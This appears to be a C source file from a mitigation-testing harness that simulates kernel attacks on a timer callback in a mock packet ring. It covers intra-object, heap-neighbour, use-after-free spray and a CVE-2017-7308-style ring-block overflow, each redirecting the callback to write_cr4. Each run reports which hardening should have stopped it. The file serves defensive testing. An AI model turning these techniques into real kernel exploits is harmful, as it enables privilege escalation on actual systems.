/* SPDX-License-Identifier: MIT */
/*
 * Techniques: how the attacker's bytes get into the ring, through which
 * victim bug, and when (before the victim arms the timer, so the list
 * pointers need no leak; or while it is pending, keeping the leaked list
 * pointers; or, as CVE-2017-7308's exploit did, while it is pending with the
 * list pointers zeroed: ring-block-overflow). Every attack
 * follows LKDTM's shape: say what it attempts, write, check that the write
 * landed (TH-LANDED), then trigger (let the wheel run past the expiry) and
 * say what happened; when it survives, name what should have stopped it.
 */
#include "attack.h"

#include <stdio.h>
#include <string.h>

#include "slab.h"

/* Far enough past the expiry (level 0, +8 jiffies) for any rounding. */
#define TH_RUN_SLACK	64UL
/* Same-size objects the uaf-realloc attacker sprays after the free. */
#define TH_SPRAY_COUNT	8

struct ctx {
	const struct th_attack *a;
	struct th_plan plan;
	struct packet_ring *ring;
	struct th_ring_snapshot before;
	int pending;
	struct msg_buf *msg;	/* heap-neighbour: the slab neighbour written from */
	struct ring_block *block;	/* ring-block-overflow: the block written past */
};

/* ---- the attacker's view of the ring --------------------------------------------- */

/* The ring's bytes at the default offsets, as a leak would give them. */
static void leak_ring(const struct packet_ring *ring, struct atk_ring *out)
{
	th_peek(out, ring, sizeof(*out));
}

/* Before arming, the attacker needs no leak for the list: zeros are valid
 * (an unarmed timer's entry is NULL/NULL); expires is rewritten by mod_timer. */
static void view_of_ring(struct ctx *c, struct atk_ring *view)
{
	leak_ring(c->ring, view);
	if (!c->pending) {
		view->timer.next = 0;
		view->timer.pprev = 0;
		view->timer.expires = 0;
	} else {
		th_emit("TH-NOTE: leaked the pending timer: entry.next=0x%lx entry.pprev=0x%lx expires=0x%lx (kept as they are)",
			(unsigned long)view->timer.next, (unsigned long)view->timer.pprev,
			view->timer.expires);
	}
}

static void build(struct ctx *c)
{
	struct atk_ring view;

	view_of_ring(c, &view);
	th_payload_build(&c->plan, &view);
	th_emit("TH-NOTE: payload %s: %s", th_payload_name(c->a->payload), c->plan.what);
}

/* ---- the victim's side of the story ---------------------------------------------- */

static int create_ring(struct ctx *c)
{
	c->ring = ring_create("eth0-rx");
	if (!c->ring) {
		th_emit("TH-NOTE: ring_create failed (slab full)");
		return -1;
	}
	return 0;
}

static void arm(struct ctx *c, const char *why)
{
	int ret = ring_arm(c->ring);

	th_emit("TH-NOTE: victim arms retire_blk_timer (%s): mod_timer(jiffies + %lu) = %d", why,
		TH_RETIRE_TMO, ret);
}

/* ---- techniques ------------------------------------------------------------------ */

static void do_memcpy_intra(struct ctx *c)
{
	if (c->plan.goal.control) {
		ring_set_name(c->ring, "eth0-rx1", 9);
		th_emit("TH-NOTE: ring_set_name(ring, \"eth0-rx1\", 9): a legitimate name");
		return;
	}
	th_emit("TH-NOTE: ring_set_name(ring, buf, %zu): name[16] is followed by retire_blk_timer, the copy runs through it",
		c->plan.reach);
	ring_set_name(c->ring, &c->plan.img, c->plan.reach);
}

static void write_range(struct ctx *c, size_t from, size_t to)
{
	const unsigned char *img = (const unsigned char *)&c->plan.img;

	for (size_t i = from; i < to; i++)
		ring_set_byte(c->ring, i, img[i]);
}

static void do_index_intra(struct ctx *c)
{
	if (c->plan.goal.control) {
		ring_set_byte(c->ring, 6, 'X');
		th_emit("TH-NOTE: ring_set_byte(ring, 6, 'X'): a legitimate index");
		return;
	}
	/* In bounds first (the planted bytes), then only the pointer bytes. */
	write_range(c, 0, c->plan.plant_len);
	if (c->plan.goal.has_next) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.next's bytes, past name[15]",
			(size_t)ATK_OFF_NEXT, (size_t)ATK_OFF_NEXT + 7);
		write_range(c, ATK_OFF_NEXT, ATK_OFF_NEXT + sizeof(uintptr_t));
	}
	if (c->plan.goal.has_pprev) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.pprev's bytes",
			(size_t)ATK_OFF_PPREV, (size_t)ATK_OFF_PPREV + 7);
		write_range(c, ATK_OFF_PPREV, ATK_OFF_PPREV + sizeof(uintptr_t));
	}
	if (c->plan.sets_function) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): .function's bytes, past name[15]",
			(size_t)ATK_OFF_FUNCTION, (size_t)ATK_OFF_FUNCTION + 7);
		write_range(c, ATK_OFF_FUNCTION, ATK_OFF_FUNCTION + sizeof(uintptr_t));
	}
#if TH_ATK_HAS_DATA
	if (c->plan.sets_data) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): .data's bytes",
			(size_t)ATK_OFF_DATA, (size_t)ATK_OFF_DATA + 7);
		write_range(c, ATK_OFF_DATA, ATK_OFF_DATA + sizeof(unsigned long));
	}
#endif
}

/*
 * The closest NUL-free string to the image: filler before .function (name,
 * entry, expires) has each zero byte replaced by 'A'; from .function on,
 * bytes are copied up to the first zero, where strcpy's own NUL lands. An
 * x86-64 user address ends in two zero bytes, so .function is rewritten
 * through its low bytes at most, and nothing after it is reachable.
 */
static size_t strcpy_string(const struct ctx *c, char *out, size_t n)
{
	const unsigned char *img = (const unsigned char *)&c->plan.img;
	size_t len = 0;

	for (size_t i = 0; i < c->plan.reach && len + 1 < n; i++) {
		if (i < ATK_OFF_FUNCTION)
			out[len++] = img[i] ? (char)img[i] : 'A';
		else if (img[i])
			out[len++] = (char)img[i];
		else
			break;
	}
	out[len] = 0;
	return len;
}

static void do_strcpy_intra(struct ctx *c)
{
	char s[sizeof(struct atk_ring) + 1];
	size_t len;

	if (c->plan.goal.control) {
		ring_set_name_str(c->ring, "eth0-rx1");
		th_emit("TH-NOTE: ring_set_name_str(ring, \"eth0-rx1\"): a legitimate name");
		return;
	}
	len = strcpy_string(c, s, sizeof(s));
	th_emit("TH-NOTE: ring_set_name_str(ring, s): %zu bytes + NUL (image needs %zu); zero bytes before .function became 'A', the copy stops at .function's first zero byte%s",
		len, c->plan.reach,
		len < c->plan.reach ? ": a partial overwrite" : "");
	ring_set_name_str(c->ring, s);
}

/* msg header size, as the attacker knows it (struct msg_buf's mirror). */
struct atk_msg_hdr {
	uint32_t len, type;
};
#define TH_MSG_LEN	64u

static void do_heap_neighbour(struct ctx *c)
{
	/* The ring starts one slot (TH_KMALLOC_SIZE, from slabinfo) after
	 * the msg; its data starts after the header. */
	const size_t gap = TH_KMALLOC_SIZE - sizeof(struct atk_msg_hdr);
	unsigned char buf[TH_KMALLOC_SIZE + sizeof(struct atk_ring)];

	if (c->plan.goal.control) {
		msg_store(c->msg, "hello", 6);
		th_emit("TH-NOTE: msg_store(msg, \"hello\", 6): within its %u bytes", TH_MSG_LEN);
		return;
	}
	memset(buf, 'M', gap);
	memcpy(buf + gap, &c->plan.img, c->plan.reach);
	th_emit("TH-NOTE: msg_store(msg, buf, %zu): msg has %u bytes; the copy runs through the rest of its slot into the next slot's ring",
		gap + c->plan.reach, TH_MSG_LEN);
	msg_store(c->msg, buf, gap + c->plan.reach);
}

/* ---- the common frame -------------------------------------------------------------- */

/* What, from first principles, should have stopped this attack. */
static void name_stoppers(const struct ctx *c)
{
	static const char *const by_technique[TH_TECH_COUNT] = {
		[TH_TECH_MEMCPY_INTRA] = "fortify (field-spanning memcpy check); not asan (inside one object)",
		[TH_TECH_INDEX_INTRA] = "bounds (-fsanitize=array-bounds)",
		[TH_TECH_STRCPY_INTRA] = "fortify built by GCC (glibc's inline strcpy wrapper; under clang it cannot size name[16])",
		[TH_TECH_HEAP_NEIGHBOUR] = "asan (redzone between slab objects)",
		[TH_TECH_UAF_REALLOC] = "asan (freed object poisoned and quarantined)",
		[TH_TECH_RING_BLOCK_OVERFLOW] = "the fix (2b6867c2ce76: tp_sizeof_priv bounded in packet_set_ring()); not asan (no KASAN redzone between a page and the next slab page), not bounds or fortify (a copy through a computed offset)",
	};
	const char *by_payload;

	switch (c->a->payload) {
	case TH_PAYLOAD_FUNC_DATA_WRITE_CR4:
	case TH_PAYLOAD_FUNC_WRITE_CR4:
		by_payload = TH_ATK_HAS_DATA ? "no type-based CFI: write_cr4(unsigned long) has the callback's prototype"
					     : "cfi-icall, kcfi, fsanitize-function: write_cr4 is not a void (*)(struct timer_list *)";
		break;
	case TH_PAYLOAD_FUNC_SAME_CLASS:
		by_payload = "no type-based CFI: same prototype as the callback";
		break;
	case TH_PAYLOAD_FUNC_PTR_CLASS:
		by_payload = TH_ATK_HAS_DATA ? "cfi-icall, kcfi, fsanitize-function (pointer vs unsigned long)"
					     : "cfi-icall, kcfi, fsanitize-function; not cfi-icall-generalized";
		break;
	case TH_PAYLOAD_DATA_FAKE_OBJECT:
		by_payload = "no CFI: the legitimate callback is called, on a fake object";
		break;
	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK:
		by_payload = "no type-based CFI: a legitimate callback of the call site's type calls write_cr4 through a pointer of write_cr4's type";
		break;
	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
		by_payload = "cfi-icall (its address is never taken: not in the jump table); not kcfi or fsanitize-function on the 4.14 layout (same type)";
		break;
	case TH_PAYLOAD_FUNC_RAW_BODY:
		by_payload = "cfi-icall (a body is not a jump-table entry); not kcfi or fsanitize-function (the body carries the hash)";
		break;
	case TH_PAYLOAD_LIST_FORGED_TIMER:
		by_payload = TH_ATK_HAS_DATA ? "no type-based CFI: the forged timer's write_cr4(unsigned long) has the call site's type; nothing checks the hlist pointers (CONFIG_DEBUG_LIST covers list_head only)"
					     : "cfi-icall, kcfi, fsanitize-function: the forged timer's write_cr4 is not a void (*)(struct timer_list *)";
		break;
	default:
		by_payload = "cfi-icall, kcfi (not a valid target of this type)";
		break;
	}
	th_emit("TH-NOTE: FAIL: the overwrite reached the call; should have been stopped by %s, or by %s",
		by_technique[c->a->technique], by_payload);
}

static void trigger(struct ctx *c)
{
	struct timer_base *base = th_this_base();
	unsigned long now = jiffies, until = now + TH_RETIRE_TMO + TH_RUN_SLACK;
	long fired;

	th_emit("TH-NOTE: running the timer wheel from jiffy 0x%lx to 0x%lx", now, until);
	fired = run_timers(base, until);
	if (th_target_hits)
		name_stoppers(c);
	else if (th_legit_hits && c->plan.goal.control)
		th_emit("TH-NOTE: control: the legitimate callback ran on its own ring");
	else if (th_legit_hits)
		th_emit("TH-NOTE: the legitimate callback ran on its own ring: the overwrite did not change the call");
	else if (th_stray_hits)
		th_emit("TH-NOTE: the legitimate callback ran on a corrupted argument the attacker did not aim at");
	else
		th_emit("TH-NOTE: no callback ran");
	th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu cr4=0x%lx uid=%u", fired,
		th_target_hits, th_legit_hits, th_stray_hits, th_read_cr4(), current_cred.uid);
}

static void landed(struct ctx *c)
{
	th_report_landed(c->ring, &c->before, &c->plan.goal);
}

/* The write techniques' frame, once the ring exists: arm it now (pending) or
 * after the write (before-arm), write through the technique's bug, check. */
static int overwrite_and_trigger(struct ctx *c)
{
	if (c->pending)
		arm(c, "it is pending while the attacker writes");
	build(c);
	th_ring_snapshot(c->ring, &c->before);
	switch (c->a->technique) {
	case TH_TECH_MEMCPY_INTRA:
		do_memcpy_intra(c);
		break;
	case TH_TECH_INDEX_INTRA:
		do_index_intra(c);
		break;
	case TH_TECH_HEAP_NEIGHBOUR:
		do_heap_neighbour(c);
		break;
	default:
		do_strcpy_intra(c);
		break;
	}
	landed(c);
	if (!c->pending)
		arm(c, "after the overwrite: an unarmed timer needs no leaked list pointers");
	trigger(c);
	return 0;
}

static int run_intra(struct ctx *c)
{
	if (create_ring(c))
		return 1;
	return overwrite_and_trigger(c);
}

static int run_heap_neighbour(struct ctx *c)
{
	int ms, rs;

	c->msg = msg_alloc(TH_MSG_LEN, 1);
	if (!c->msg || create_ring(c))
		return 1;
	ms = th_slab_slot(c->msg);
	rs = th_slab_slot(c->ring);
	th_emit("TH-NOTE: slab: msg_buf in slot %d, ring in slot %d (%s), stride %zu%s", ms, rs,
		rs == ms + 1 ? "adjacent" : "NOT adjacent", th_slab_stride(),
		th_slab_kasan() ? " (KASAN redzones)" : "");
	return overwrite_and_trigger(c);
}

static int run_uaf_realloc(struct ctx *c)
{
	unsigned char filler[sizeof(struct atk_ring)];
	const void *spray[TH_SPRAY_COUNT];	/* kept allocated, like setxattr+userfaultfd */
	int hit = -1;

	if (create_ring(c))
		return 1;
	arm(c, "the ring's timer is pending when it is freed");
	build(c);
	th_ring_snapshot(c->ring, &c->before);
	if (c->plan.goal.control) {
		/* The victim keeps its ring; the spray is harmless. */
		memset(filler, 'S', sizeof(filler));
		for (int i = 0; i < TH_SPRAY_COUNT; i++)
			spray[i] = spray_alloc(filler, sizeof(filler));
		th_emit("TH-NOTE: control: the ring stays allocated; sprayed %d unrelated objects",
			TH_SPRAY_COUNT);
	} else {
		th_emit("TH-NOTE: victim frees the ring with retire_blk_timer still pending (no del_timer_sync)");
		ring_release_buggy(c->ring);
		for (int i = 0; i < TH_SPRAY_COUNT; i++) {
			spray[i] = spray_alloc(&c->plan.img, sizeof(c->plan.img));
			if (spray[i] == (const void *)c->ring && hit < 0)
				hit = i;
		}
		th_emit("TH-NOTE: sprayed %d objects of %zu bytes; %s", TH_SPRAY_COUNT,
			sizeof(c->plan.img),
			hit >= 0 ? "spray hit the freed slot" :
			th_slab_kasan() ? "none got the freed slot (KASAN quarantine)" :
					  "none got the freed slot");
	}
	landed(c);
	trigger(c);
	return 0;
}

/* ring_block_rcv()'s frame: a legitimate one fits the block. */
#define TH_RING_BLOCK_FRAMES	64u

/*
 * CVE-2017-7308 as its exploit did it (Konovalov's PoC for
 * net/packet/af_packet.c, TPACKET_V3):
 *  1. setsockopt(PACKET_RX_RING) on the victim socket: packet_set_ring() ->
 *     init_prb_bdqc() -> prb_open_block() -> _prb_refresh_rx_retire_blk_timer()
 *     -> mod_timer(): its retire timer is pending from then on;
 *  2. the heap shaped so that a ring block of another socket (alloc_pg_vec())
 *     lies right before the victim socket;
 *  3. a received frame, written by tpacket_rcv() at BLK_PLUS_PRIV(tp_sizeof_priv)
 *     from the block's start, runs past its end over the socket's
 *     retire_blk_timer: .function and .data as the attacker chose, and zeros
 *     for entry and expires, since no pointer was leaked;
 *  4. the wheel tolerates the zeroed entry (kernel/time/timer.c): the timer is
 *     alone in its bucket, so next == NULL was right anyway, and
 *     collect_expired_timers() -> hlist_move_list() rewrites its pprev to the
 *     new list head before expire_timers() -> detach_timer() unlinks it and
 *     call_timer_fn() calls .function(.data).
 */
static int run_ring_block_overflow(struct ctx *c)
{
	struct atk_ring view;
	unsigned char frame[TH_KMALLOC_SIZE + sizeof(struct atk_ring)];
	size_t offset;
	int bs, rs;

	c->block = ring_block_alloc(TH_RING_BLOCK_FRAMES);
	if (!c->block || create_ring(c))
		return 1;
	bs = th_slab_slot(c->block);
	rs = th_slab_slot(c->ring);
	th_emit("TH-NOTE: slab: ring block in slot %d (page-allocator memory: no redzone after it), socket's ring in slot %d (%s)",
		bs, rs, rs == bs + 1 ? "adjacent" : "NOT adjacent");
	arm(c, "PACKET_RX_RING: init_prb_bdqc() -> prb_open_block() -> mod_timer()");
	c->pending = 1;
	/* No leak: zeros where the list pointers and the expiry are. */
	leak_ring(c->ring, &view);
	view.timer.next = 0;
	view.timer.pprev = 0;
	view.timer.expires = 0;
	th_payload_build(&c->plan, &view);
	th_emit("TH-NOTE: payload %s: %s; entry and expires zeroed (nothing leaked)",
		th_payload_name(c->a->payload), c->plan.what);
	th_ring_snapshot(c->ring, &c->before);
	if (c->plan.goal.control) {
		ring_block_rcv(c->block, 0, "frame", 6);
		th_emit("TH-NOTE: ring_block_rcv(block, 0, \"frame\", 6): a frame inside its block");
	} else {
		/* The frame lands where the next slot's object starts. */
		offset = th_slab_stride() - offsetof(struct ring_block, frames);
		memcpy(frame, &c->plan.img, c->plan.reach);
		th_emit("TH-NOTE: ring_block_rcv(block, %zu, frame, %zu): tp_sizeof_priv put the frame past the block's %u bytes, at the socket's ring",
			offset, c->plan.reach, TH_RING_BLOCK_FRAMES);
		ring_block_rcv(c->block, offset, frame, c->plan.reach);
	}
	landed(c);
	trigger(c);
	return 0;
}

int th_attack_run(const struct th_attack *a)
{
	struct ctx c;

	memset(&c, 0, sizeof(c));
	c.a = a;
	c.pending = a->timing == TH_TIMING_PENDING;
	th_emit("TH-NOTE: attempting %s on %s (config %s, seed %s): %s, %s, payload %s", a->id,
		TH_ATK_VARIANT, TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
		th_timing_name(a->timing), th_payload_name(a->payload));
	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
	if (th_payload_prepare(&c.plan, a->payload))
		return 1;
	c.plan.pending = c.pending;
	switch (a->technique) {
	case TH_TECH_HEAP_NEIGHBOUR:
		return run_heap_neighbour(&c);
	case TH_TECH_UAF_REALLOC:
		return run_uaf_realloc(&c);
	case TH_TECH_RING_BLOCK_OVERFLOW:
		return run_ring_block_overflow(&c);
	default:
		return run_intra(&c);
	}
}
